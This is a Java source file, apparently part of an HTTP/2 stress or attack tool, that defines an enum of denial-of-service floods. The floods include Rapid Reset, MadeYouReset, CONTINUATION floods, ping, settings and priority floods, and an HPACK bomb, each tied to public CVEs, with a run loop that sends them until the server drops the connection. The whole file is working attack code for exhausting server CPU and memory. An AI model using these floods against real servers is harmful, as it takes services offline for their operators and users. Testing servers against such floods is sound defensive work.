package dev.baton.floods;

import static dev.baton.floods.RawHttp2.CONTINUATION;
import static dev.baton.floods.RawHttp2.DATA;
import static dev.baton.floods.RawHttp2.END_STREAM;
import static dev.baton.floods.RawHttp2.HEADERS;
import static dev.baton.floods.RawHttp2.PING;
import static dev.baton.floods.RawHttp2.PRIORITY;
import static dev.baton.floods.RawHttp2.RST_STREAM;
import static dev.baton.floods.RawHttp2.WINDOW_UPDATE;

import java.io.ByteArrayOutputStream;

/** Ways to make a server of HTTP/2 work or hold memory for nothing. Each is a beginning and a round that is sent for ever. */
public enum Flood {
    /** CVE-2023-44487: requests that are taken back at once. */
    RAPID_RESET {
        @Override
        byte[] round(int number) {
            return join(
                    RawHttp2.headers(stream(number), true, Block.get("/")),
                    RawHttp2.number(RST_STREAM, stream(number), 8));
        }
    },
    /** CVE-2025-8671: requests followed by a fault for which the server must reset them itself. */
    MADE_YOU_RESET {
        @Override
        byte[] round(int number) {
            return join(
                    RawHttp2.headers(stream(number), true, Block.get("/")),
                    RawHttp2.number(WINDOW_UPDATE, stream(number), 0));
        }
    },
    /** The same with a window that overflows. */
    MADE_YOU_RESET_BY_OVERFLOW {
        @Override
        byte[] round(int number) {
            return join(
                    RawHttp2.headers(stream(number), true, Block.get("/")),
                    RawHttp2.number(WINDOW_UPDATE, stream(number), Integer.MAX_VALUE));
        }
    },
    /** Requests that are malformed. */
    MALFORMED {
        @Override
        byte[] round(int number) {
            return RawHttp2.headers(stream(number), true, Block.get("/").field("Upper", "x"));
        }
    },
    /** CVE-2024-27316 and others: a head that does not end, in small pieces. */
    SMALL_CONTINUATION {
        @Override
        byte[] beginning() {
            return RawHttp2.frame(HEADERS, END_STREAM, 1, Block.get("/").octets());
        }

        @Override
        byte[] round(int number) {
            return RawHttp2.frame(CONTINUATION, 0, 1);
        }
    },
    /** The same in large pieces. */
    LARGE_CONTINUATION {
        @Override
        byte[] beginning() {
            return RawHttp2.frame(HEADERS, END_STREAM, 1, Block.get("/").octets());
        }

        @Override
        byte[] round(int number) {
            return RawHttp2.frame(
                    CONTINUATION,
                    0,
                    1,
                    new Block().field("x", "a".repeat(16_000)).octets());
        }
    },
    /** CVE-2019-9512. */
    PINGS {
        @Override
        byte[] round(int number) {
            return RawHttp2.frame(PING, 0, 0, new byte[8]);
        }
    },
    /** CVE-2019-9515. */
    EMPTY_SETTINGS {
        @Override
        byte[] round(int number) {
            return RawHttp2.settings();
        }
    },
    /** Settings that make the server adjust the windows of all streams. */
    WINDOW_SETTINGS {
        @Override
        byte[] beginning() {
            ByteArrayOutputStream requests = new ByteArrayOutputStream();
            for (int i = 0; i < 100; i++) {
                requests.writeBytes(RawHttp2.headers(stream(i), false, Block.post("/")));
            }
            return requests.toByteArray();
        }

        @Override
        byte[] round(int number) {
            return RawHttp2.settings(4, 65_535 + number % 2);
        }
    },
    /** CVE-2019-9518. */
    EMPTY_DATA {
        @Override
        byte[] beginning() {
            return RawHttp2.headers(1, false, Block.post("/"));
        }

        @Override
        byte[] round(int number) {
            return RawHttp2.frame(DATA, 0, 1);
        }
    },
    /** CVE-2019-9513. */
    PRIORITIES {
        @Override
        byte[] round(int number) {
            return RawHttp2.frame(PRIORITY, 0, stream(number % 1000), new byte[] {0, 0, 0, 0, (byte) number});
        }
    },
    /** Windows opened a little further, again and again. */
    WINDOW_UPDATES {
        @Override
        byte[] round(int number) {
            return RawHttp2.number(WINDOW_UPDATE, 0, 1);
        }
    },
    /** Frames of a type that nobody knows. */
    UNKNOWN_FRAMES {
        @Override
        byte[] round(int number) {
            return RawHttp2.frame(0xfa, 0, 0, new byte[8]);
        }
    },
    /** Data on a stream that has ended. */
    DATA_AFTER_THE_END {
        @Override
        byte[] beginning() {
            return RawHttp2.headers(1, true, Block.get("/"));
        }

        @Override
        byte[] round(int number) {
            return RawHttp2.frame(DATA, 0, 1, new byte[1]);
        }
    },
    /** Heads of 16 KiB that stand for 60 MB. */
    HPACK_BOMB {
        @Override
        byte[] beginning() {
            return RawHttp2.headers(1, true, Block.get("/").kept("x", "a".repeat(4000)));
        }

        @Override
        byte[] round(int number) {
            return RawHttp2.headers(stream(number + 1), true, Block.get("/").indexed(62, 16_000));
        }
    };

    /** What comes once, after preface and SETTINGS. */
    byte[] beginning() {
        return new byte[0];
    }

    /** One round of the flood; rounds are numbered from 0. */
    abstract byte[] round(int number);

    private static int stream(int number) {
        return 2 * number + 1;
    }

    private static byte[] join(byte[] first, byte[] second) {
        ByteArrayOutputStream both = new ByteArrayOutputStream();
        both.writeBytes(first);
        both.writeBytes(second);
        return both.toByteArray();
    }

    /**
     * Floods until the server closes the connection, or all rounds have been sent. Blocks.
     *
     * @return how many rounds have been sent
     */
    public int run(RawHttp2 client, int rounds) {
        client.trySend(beginning());
        int sent = 0;
        while (sent < rounds && !client.isClosed()) {
            ByteArrayOutputStream several = new ByteArrayOutputStream();
            int until = Math.min(rounds, sent + 20);
            while (sent < until) {
                several.writeBytes(round(sent++));
            }
            if (!client.trySend(several.toByteArray())) {
                break;
            }
        }
        return sent;
    }
}
